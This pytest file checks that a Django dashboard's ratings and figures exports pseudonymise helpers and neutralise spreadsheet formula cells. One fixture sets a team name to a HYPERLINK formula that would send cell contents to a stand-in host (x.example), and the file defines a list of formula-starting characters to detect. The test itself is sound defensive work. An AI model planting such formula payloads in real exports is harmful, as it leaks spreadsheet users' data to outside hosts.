"""Issue #11: the leaders' downloads carry no live spreadsheet formulas and no staff usernames."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from services.accounts.models import Role
from services.dashboards import periods
from services.dashboards.exports import figures_csv, figures_xlsx, pseudonymised_rows
from services.dashboards.figures import build_dashboard
from services.ratings.interchange import COLUMNS
from tests.dashboards import excel_csv
from tests.factories import MembershipFactory, RatingFactory, SessionFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def rated(service, helper):
    """Three sessions by two helpers (one with a formula-like username) with formula-like
    episode codes, rated today."""
    other = UserFactory(username="@ola.nordmann", first_name="", last_name="")
    MembershipFactory(user=other, service=service, role=Role.HELPER)
    today = timezone.localdate()
    for code, user in (("K1", helper), ("K2", other), ("K3", helper)):
        session = SessionFactory(
            episode__client__service=service,
            episode__client__code=code,
            episode__code="=1+2",
            episode__start_date=today - datetime.timedelta(days=7),
            helper=user,
            date=today,
        )
        RatingFactory(session=session)
    return [helper, other]


def ratings_export(client, leader, service) -> bytes:
    client.force_login(leader)
    response = client.get(reverse("dashboards:export_ratings", kwargs={"code": service.code}))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_ratings_export_names_no_helper(client, service, leader, rated):
    body = ratings_export(client, leader, service)
    for user in rated:
        assert user.username.encode() not in body
    rows = list(csv.reader(io.StringIO(body.decode())))[1:]
    assert [row[COLUMNS.index("helper")] for row in rows] == ["H1", "H2", "H1"]


def test_helper_codes_are_per_export_not_per_person(service, rated):
    first = [row[COLUMNS.index("helper")] for row in pseudonymised_rows(service, None, None)]
    rated[0].care_sessions.update(date=timezone.localdate() - datetime.timedelta(days=1))
    today = timezone.localdate()
    second = [row[COLUMNS.index("helper")] for row in pseudonymised_rows(service, today, today)]
    assert first[1:] == ["H1", "H2", "H1"]
    assert second[1:] == ["H1"]


def test_the_ratings_export_neutralises_formula_cells(client, service, leader, rated):
    body = ratings_export(client, leader, service).decode()
    cells = [cell for row in list(csv.reader(io.StringIO(body)))[1:] for cell in row]
    assert "'=1+2" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.fixture
def dashboard(service, team, rated):
    team.name = '=HYPERLINK("http://x.example/?"&A1;"team")'
    team.save()
    rated[1].first_name = "-2+3"
    rated[1].save()
    return build_dashboard(service, periods.last_months(timezone.localdate(), 12))


def test_the_figures_csv_neutralises_formula_cells(dashboard):
    # Issue #16: the figures CSV is written for Norwegian Excel; excel_csv reads it so.
    rows = excel_csv.cells(figures_csv(dashboard))
    cells = [cell for row in rows for cell in row]
    assert "'" + dashboard.units[0].unit.name in cells
    assert "'-2+3" in cells
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert all(float(cell) < 0 for cell in formulas), formulas


def test_the_figures_workbook_has_no_formula_cells(dashboard):
    sheet = load_workbook(io.BytesIO(figures_xlsx(dashboard))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert "'-2+3" in texts
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
